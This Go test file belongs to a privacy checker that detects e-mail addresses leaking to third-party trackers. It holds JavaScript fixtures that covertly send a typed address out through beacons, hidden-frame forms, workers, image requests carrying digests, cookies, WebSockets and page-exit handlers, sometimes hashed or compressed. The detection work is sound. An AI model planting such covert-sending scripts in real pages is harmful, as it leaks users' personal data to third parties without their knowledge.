package web

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/sha1" //nolint:gosec // what trackers send
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/network"

	"touchstone/internal/evidence"
)

// Whatever dress the address wears, it is known; another's address is not.
func TestAddressInEveryDress(t *testing.T) {
	const typed, mine = "Anna.Field+shop7@Example.net", "anna.field+shop7@example.net"
	sum1, sum256 := sha1.Sum([]byte(mine)), sha256.Sum256([]byte(mine)) //nolint:gosec // see above
	folded := sha256.Sum256([]byte("annafield@example.net"))
	raised := sha256.Sum256([]byte(strings.ToUpper(mine)))
	packed := func(w func(io.Writer) io.WriteCloser) string {
		var b bytes.Buffer
		z := w(&b)
		_, _ = io.WriteString(z, `{"mail":"`+mine+`"}`) // memory takes all
		z.Close()
		return b.String()
	}
	dresses := map[string]string{
		"plain":            "m=" + typed,
		"capitals":         "m=" + strings.ToUpper(typed),
		"address":          "m=" + url.QueryEscape(typed),
		"small escapes":    "m=" + strings.ToLower(url.QueryEscape(typed)),
		"twice":            "m=" + url.QueryEscape(url.QueryEscape(mine)),
		"thrice":           "m=" + url.QueryEscape(url.QueryEscape(url.QueryEscape(mine))),
		"json":             `{"m":"anna.field\u002bshop7\u0040example.net"}`,
		"script":           `{"m":"anna.field\x2bshop7\x40example.net"}`,
		"entities":         `anna.field+shop7&#64;example.net`,
		"base64":           "m=" + base64.StdEncoding.EncodeToString([]byte(typed)),
		"base64 in small":  "m=" + base64.RawURLEncoding.EncodeToString([]byte(mine)),
		"base64 escaped":   "m=" + url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(mine))),
		"inside base64":    base64.StdEncoding.EncodeToString([]byte(`{"mail":"` + mine + `","n":1}`)),
		"inside base64, 1": base64.StdEncoding.EncodeToString([]byte(`{"emai":"` + mine + `!","n":1}x`)),
		"inside base64, 2": base64.URLEncoding.EncodeToString([]byte(`{"email":"` + mine + `??>>","n":1}`)),
		"hexadecimal":      strings.ToUpper(hex.EncodeToString([]byte(mine))),
		"md5":              "h=" + md5Of(mine),
		"sha-1, capitals":  "h=" + strings.ToUpper(hex.EncodeToString(sum1[:])),
		"sha-256":          "h=" + hex.EncodeToString(sum256[:]),
		"sha-256, base64":  "h=" + url.QueryEscape(base64.StdEncoding.EncodeToString(sum256[:])),
		"without tag, dot": "h=" + hex.EncodeToString(folded[:]),
		"of capitals":      "h=" + hex.EncodeToString(raised[:]),
		"gzip":             packed(func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }),
		"zlib":             packed(func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }),
	}
	b := bounds{domain: "shop.example"}
	said := func(text string) string {
		l := newLeak(b)
		l.learn(typed)
		l.on(nil, &network.EventRequestWillBeSent{RequestID: "1", Request: &network.Request{URL: "https://tracker.example/t", PostDataEntries: []*network.PostDataEntry{{Bytes: []byte(text)}}}})
		to, _ := l.verdict()
		return to
	}
	for name, text := range dresses {
		if to := said(text); !strings.HasPrefix(to, "tracker.example, ") {
			t.Errorf("%s: %q was not found in %q", name, to, text)
		}
	}
	for _, text := range []string{
		"", "m=berta@example.net", "h=" + md5Of("berta@example.net"), "shop7@example.net", base64.StdEncoding.EncodeToString([]byte("berta.field@example.net")), "\x1f\x8bnot packed", "x\x9c", "%", `\u00`,
	} {
		if to := said(text); to != "" {
			t.Errorf("%q was taken for the address: %s", text, to)
		}
	}
}

// Requests, cookies, referrers and web sockets are all listened to, until the
// customer sends the address.
func TestWaysOutOfThePage(t *testing.T) {
	const mine = "anna@example.net"
	to := func(id, address string, headers network.Headers) *network.EventRequestWillBeSent {
		return &network.EventRequestWillBeSent{RequestID: network.RequestID(id), Request: &network.Request{URL: address, Headers: headers}}
	}
	cookie := &network.EventRequestWillBeSentExtraInfo{RequestID: "1", Headers: network.Headers{"Cookie": "m=anna%40example.net"}}
	frame := &network.EventWebSocketFrameSent{RequestID: "9", Response: &network.WebSocketFrame{PayloadData: []byte(mine)}}
	for name, c := range map[string]struct {
		events []any
		where  string
	}{
		"address":            {[]any{to("1", "https://t.example/?m=anna%40example.net", nil)}, "the address"},
		"referrer":           {[]any{to("1", "https://t.example/", network.Headers{"Referer": "https://shop.example/?m=" + mine})}, "the referrer"},
		"cookie after":       {[]any{to("1", "https://t.example/", nil), cookie}, "the headers"},
		"cookie before":      {[]any{cookie, to("1", "https://t.example/", nil)}, "the headers"},
		"web socket":         {[]any{&network.EventWebSocketCreated{RequestID: "9", URL: "wss://t.example/s"}, frame}, "a web socket"},
		"its own cookie":     {[]any{to("1", "https://www.shop.example/", nil), cookie}, ""},
		"its own socket":     {[]any{&network.EventWebSocketCreated{RequestID: "9", URL: "wss://shop.example/s"}, frame}, ""},
		"redirected to them": {[]any{to("1", "https://shop.example/out", nil), to("1", "https://t.example/?m="+mine, nil)}, "the address"},
	} {
		l := newLeak(bounds{domain: "shop.example"})
		l.sent() // a button that was pressed before anything was typed
		l.learn(mine)
		for _, e := range c.events {
			l.on(nil, e)
		}
		got, _ := l.verdict()
		if c.where == "" && got != "" || !strings.HasSuffix(got, c.where) {
			t.Errorf("%s: %q, want it in %q", name, got, c.where)
		}
		l = newLeak(bounds{domain: "shop.example"})
		l.learn(mine)
		l.sent()
		l.learn(mine)
		for _, e := range c.events {
			l.on(nil, e)
		}
		if got, typed := l.verdict(); got != "" || !typed {
			t.Errorf("%s: %q after it was sent", name, got)
		}
	}
}

// A real page sends it over a web socket, and in a cookie, as its field is left.
func TestAddressOverSocketAndCookie(t *testing.T) {
	t.Parallel()
	third := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Upgrade") != "" {
			w.Header().Set("Connection", "Upgrade")
			w.Header().Set("Upgrade", "websocket")
			sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11")) //nolint:gosec // RFC 6455
			w.Header().Set("Sec-WebSocket-Accept", base64.StdEncoding.EncodeToString(sum[:]))
			w.WriteHeader(http.StatusSwitchingProtocols)
			if c, _, err := w.(http.Hijacker).Hijack(); err == nil {
				defer c.Close()
				_, _ = io.Copy(io.Discard, c) // until the page has gone
			}
			return
		}
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(third.Close)
	for name, c := range map[string]struct{ script, where string }{
		"socket": {`const s = new WebSocket('` + strings.Replace(third.URL, "http", "ws", 1) + `'); s.onopen = () => { document.querySelector('p').textContent = 'open'; document.querySelector('input').oninput = e => { s.send(e.target.value); document.querySelector('p').textContent = 'said' } }`, "plain, in a web socket"},
		// Ports of one host share their cookies.
		"cookie": {`document.querySelector('p').textContent = 'open'; document.querySelector('input').oninput = e => { document.cookie = 'm=' + encodeURIComponent(e.target.value); fetch('` + third.URL + `/', {mode: 'no-cors', credentials: 'include'}).then(() => { document.querySelector('p').textContent = 'said' }) }`, "plain, in the headers"},
	} {
		t.Run(name, func(t *testing.T) {
			page := `<form><label>E-mail <input name=email></label></form><p></p><script>` + c.script + `</script>`
			r := shopping(t, serve(t, map[string]string{"/": page}), `[{"open":"/"},{"expect":{"text":"open"}},{"effect":"subscribe","fill":{"label":"E-mail","value":"anna@example.net"}},{"expect":{"text":"said"}}]`, grant(evidence.Subscribe))
			want(t, r, evidence.Completed, "")
			if f, _ := r.Fact("web.third-party-typed-to"); !strings.HasSuffix(f.Text, c.where) {
				t.Errorf("it went to %q", f.Text)
			}
		})
	}
}

// From pages and from frames, by beacons, bodies that the browser does not show,
// digests, workers, forms in hidden frames and as the page is left.
func TestAddressByEveryWayOut(t *testing.T) {
	t.Parallel()
	third := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }))
	t.Cleanup(third.Close)
	for name, c := range map[string]struct{ script, where string }{
		"beacon of a blob":          {`navigator.sendBeacon(to, new Blob([JSON.stringify({m})]))`, "plain, in the body"},
		"packed blob":               {`new Response(new Blob([m]).stream().pipeThrough(new CompressionStream('gzip'))).blob().then(b => fetch(to, {method: 'POST', mode: 'no-cors', body: b}))`, "plain, in the body"},
		"beacon of a form's fields": {`const f = new FormData(); f.set('m', m); navigator.sendBeacon(to, f)`, "plain, in the body"},
		"picture with a digest":     {`crypto.subtle.digest('SHA-256', new TextEncoder().encode(m)).then(d => { new Image().src = to + '?h=' + [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, '0')).join('') })`, "as its SHA-256, in the address"},
		"worker":                    {`new Worker(window.URL.createObjectURL(new Blob(["onmessage = e => fetch('" + to + "', {method: 'POST', mode: 'no-cors', body: e.data})"]))).postMessage(m)`, "plain, in the body"},
		"form in a hidden frame":    {`document.body.insertAdjacentHTML('beforeend', '<iframe name=h hidden></iframe><form id=z method=post target=h><input name=m></form>'); z.action = to; z.m.value = m; z.submit()`, "plain, in the body"},
		"as the page is left":       {`addEventListener('pagehide', () => navigator.sendBeacon(to, encodeURIComponent(m)))`, "plain, in the body"},
	} {
		for _, within := range []string{"page", "frame"} {
			t.Run(name+" of a "+within, func(t *testing.T) {
				t.Parallel()
				body := `<form><label>E-mail <input name=email></label></form><a href=/next target=_top>On</a><script>document.querySelector('input').oninput = e => { if (!e.target.value.endsWith('.net')) return; const m = e.target.value, to = '` + third.URL + `/t'; ` + c.script + ` }</script>`
				pages := map[string]string{"/": body, "/in": body, "/next": `<h1>Next</h1>`}
				if within == "frame" {
					pages["/"] = `<iframe src=/in></iframe>`
				}
				r := shopping(t, serve(t, pages), `[{"open":"/"},{"effect":"subscribe","fill":{"label":"E-mail","value":"anna@example.net"}},{"click":{"role":"link"}},{"expect":{"text":"Next"}}]`, grant(evidence.Subscribe))
				want(t, r, evidence.Completed, "")
				if f, _ := r.Fact("web.third-party-typed-to"); !strings.HasSuffix(f.Text, c.where) {
					t.Errorf("it went to %q", f.Text)
				}
			})
		}
	}
}
